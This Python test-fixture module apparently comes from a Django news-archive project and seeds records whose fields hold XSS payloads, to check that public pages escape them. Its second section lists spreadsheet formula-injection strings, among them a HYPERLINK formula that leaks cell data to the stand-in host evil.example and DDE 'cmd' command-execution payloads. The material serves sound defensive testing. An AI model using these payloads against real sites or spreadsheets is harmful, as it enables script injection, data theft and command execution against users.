"""
Published records whose every text field carries markup an attacker would try: a script
element, an attribute breaking out of its quotes with an event handler, an image whose loading
fails into script, a `</script>` that would end a JSON-LD block early, and a `javascript:`
address. Elements the payloads would inject carry the class `xss-injected`, so a page can be
searched for them.

Saved with `save()`, not `full_clean()`: the archive must render safely even what validation
would refuse today (the `javascript:` original address) but older data or a bulk update may hold.
"""

from dataclasses import dataclass
from decimal import Decimal

from archive.models import (
    Article,
    Authorship,
    Event,
    EventParticipant,
    EventReport,
    Indicator,
    Organisation,
    OrganisationAlias,
    OrganisationMention,
    Person,
    PersonAlias,
    PersonMention,
    Place,
    PlaceAlias,
    PlaceMention,
    Role,
    Statistic,
    Topic,
)

SCRIPT = '<script>alert("xss:script")</script>'
HANDLER = '" onmouseover="alert(\'xss:handler\')" data-x="'
IMAGE = "<img src=x onerror=alert('xss:img') class=xss-injected>"
END_OF_SCRIPT = '</script><script>alert("xss:json-ld")</script>'
SVG = '<svg class=xss-injected onload=alert("xss:svg")>'
SHORT_IMAGE = "<img src=x onerror=alert(1) class=xss-injected>"  # fits a 50-character unit
JAVASCRIPT_URL = "javascript:alert('xss:url')"

BYLINE = f"By Mallory {HANDLER}"
PERSON_FORM = f"Mallory {IMAGE}"
ROLE_QUOTE = f"The envoy {PERSON_FORM} spoke"
REPORT_QUOTE = f"spoke {SCRIPT} in Brussels"
FIGURE_QUOTE = f"trade reached {HANDLER} 5 billion"
ATTRIBUTION = f"according to {SVG}"
BODY = "\n\n".join(
    [
        f"{ROLE_QUOTE} {SCRIPT} in Brussels, {ATTRIBUTION}.",
        f"Figures: {FIGURE_QUOTE} US dollars {END_OF_SCRIPT} this year.",
        f"The address {JAVASCRIPT_URL} was read out.",
    ]
)


@dataclass
class HostileRecords:
    topic: Topic
    place: Place
    person: Person
    organisation: Organisation
    article: Article
    role: Role
    event: Event
    indicator: Indicator
    statistic: Statistic

    def pages(self):
        """Every public page that shows one of these records, with the text it must show."""
        article, person = self.article, self.person
        return {
            "/": article.title,
            "/articles/": article.title,
            "/articles/?q=envoy": article.title,  # search results
            f"/articles/?person={person.slug}": person.name,  # the active filter and facets
            article.get_absolute_url(): article.title,
            "/people/": person.name,
            person.get_absolute_url(): person.description,
            "/organisations/": self.organisation.name,
            self.organisation.get_absolute_url(): self.organisation.description,
            "/places/": self.place.name,
            self.place.get_absolute_url(): self.place.name,
            "/events/": self.event.title,
            self.event.get_absolute_url(): self.event.description,
            "/statistics/": self.indicator.name,
            self.indicator.get_absolute_url(): self.statistic.quote,
            "/topics/": self.topic.name,
            self.topic.get_absolute_url(): self.topic.name,
        }


def make_hostile_records():
    topic = Topic.objects.create(name=f"Topic {SCRIPT}", slug="xss-topic", description=IMAGE)
    place = Place.objects.create(name=f"Brussels {HANDLER}", slug="xss-place", country="BE")
    PlaceAlias.objects.create(place=place, name=SVG)
    person = Person.objects.create(
        name=PERSON_FORM,
        sort_name=f"{IMAGE}, Mallory",
        slug="xss-person",
        country="KZ",
        description=f"An envoy {END_OF_SCRIPT} {HANDLER}",
    )
    PersonAlias.objects.create(person=person, name=HANDLER)
    PersonAlias.objects.create(person=person, name=SCRIPT, language="en")
    organisation = Organisation.objects.create(
        name=f"Agency {END_OF_SCRIPT}",
        acronym="<b class=xss-injected>",
        kind=Organisation.Kind.AGENCY,
        slug="xss-organisation",
        description=f"Publishes {SCRIPT}",
    )
    OrganisationAlias.objects.create(organisation=organisation, name=IMAGE)

    article = Article.objects.create(
        title=f"{SCRIPT} {END_OF_SCRIPT} {HANDLER}",
        slug="xss-article",
        date_edtf="2024-05-02",  # the newest article: first on the home page and in the feeds
        dateline=f"BRUSSELS {HANDLER}",
        dateline_place=place,
        source=organisation,
        relayed_from=organisation,
        attribution=ATTRIBUTION,
        body=BODY,
        raw_text=f"{BYLINE}\n\n{BODY}",
        source_tags=IMAGE,
        editorial_note=SCRIPT,
        original_url=JAVASCRIPT_URL,
        status=Article.Status.PUBLISHED,
    )
    article.topics.add(topic)
    Authorship.objects.create(article=article, person=person, byline=BYLINE)
    PersonMention.objects.create(article=article, person=person, surface_forms=[PERSON_FORM])
    OrganisationMention.objects.create(
        article=article, organisation=organisation, surface_forms=[SVG]
    )
    PlaceMention.objects.create(article=article, place=place, surface_forms=["Brussels"])

    role = Role.objects.create(
        person=person,
        organisation=organisation,
        title=f"Envoy {HANDLER}",
        article=article,
        quote=ROLE_QUOTE,
        date_edtf="2024-05-02",
    )
    event = Event.objects.create(
        title=f"Meeting {HANDLER} {SCRIPT}",
        slug="xss-event",
        kind=Event.Kind.MEETING,
        status=Event.Status.PLANNED,  # planned: listed on the home page too
        place=place,
        description=f"{IMAGE} {END_OF_SCRIPT}",
        date_edtf="2024-06",
    )
    event.topics.add(topic)
    EventParticipant.objects.create(event=event, person=person, part=EventParticipant.Part.HOST)
    EventParticipant.objects.create(event=event, organisation=organisation)
    EventReport.objects.create(event=event, article=article, quote=REPORT_QUOTE)
    indicator = Indicator.objects.create(
        name=f"Trade {SCRIPT}", slug="xss-indicator", description=HANDLER
    )
    statistic = Statistic.objects.create(
        indicator=indicator,
        value=Decimal("5"),
        scale=Statistic.Scale.BILLION,
        unit=SHORT_IMAGE,
        qualifier=Statistic.Qualifier.ALMOST,
        period_edtf="2023",
        direction=Statistic.Direction.FROM_TO,
        country_a="KZ",
        country_b="BE",
        article=article,
        quote=FIGURE_QUOTE,
    )
    return HostileRecords(
        topic, place, person, organisation, article, role, event, indicator, statistic
    )


# --- Text a spreadsheet would run as a formula ------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def make_formula_records():
    """A published article and the records around it, every text field opening with a formula."""
    first, plus, minus, at, tab, carriage_return = FORMULAS
    body = f"{first} said the envoy.\n\n{plus} and {minus} were quoted, {at} too."
    topic = Topic.objects.create(name=tab, slug="formula-topic", description=carriage_return)
    place = Place.objects.create(name=minus, slug="formula-place", description=first)
    PlaceAlias.objects.create(place=place, name=at, note=plus)
    person = Person.objects.create(
        name=first, sort_name=plus, slug="formula-person", description=minus
    )
    PersonAlias.objects.create(person=person, name=at, note=tab)
    organisation = Organisation.objects.create(
        name=plus,
        acronym=at,
        kind=Organisation.Kind.AGENCY,
        slug="formula-organisation",
        description=carriage_return,
    )
    OrganisationAlias.objects.create(organisation=organisation, name=minus)
    article = Article.objects.create(
        title=first,
        slug="formula-article",
        date_edtf="2024-05-03",
        date_is_inferred=True,
        date_note=at,
        dateline=minus,
        dateline_place=place,
        source=organisation,
        attribution=plus,
        body=body,
        raw_text=f"{tab}\n{body}",
        source_tags=at,
        # Curated text is kept with \n line ends: the provenance keeps a carriage return.
        original_filename=carriage_return,
        status=Article.Status.PUBLISHED,
    )
    article.topics.add(topic)
    Authorship.objects.create(article=article, person=person, byline=tab)
    PersonMention.objects.create(article=article, person=person, surface_forms=[first])
    OrganisationMention.objects.create(
        article=article, organisation=organisation, surface_forms=[plus]
    )
    PlaceMention.objects.create(article=article, place=place, surface_forms=[minus])
    Role.objects.create(
        person=person,
        organisation=organisation,
        title=at,
        article=article,
        quote=first,
        date_edtf="2024-05-03",
        date_is_inferred=True,
        date_note=minus,
    )
    event = Event.objects.create(
        title=plus,
        slug="formula-event",
        kind=Event.Kind.MEETING,
        place=place,
        description=first,
        date_edtf="2024-05",
    )
    EventParticipant.objects.create(event=event, person=person)
    EventReport.objects.create(event=event, article=article, quote=at)
    indicator = Indicator.objects.create(name=minus, slug="formula-indicator", description=at)
    Statistic.objects.create(
        indicator=indicator,
        value=Decimal("1"),
        unit="=1+1",
        article=article,
        quote=minus,
        rank=Statistic.Rank.PREFERRED,
        rank_reason=first,
    )
    return article
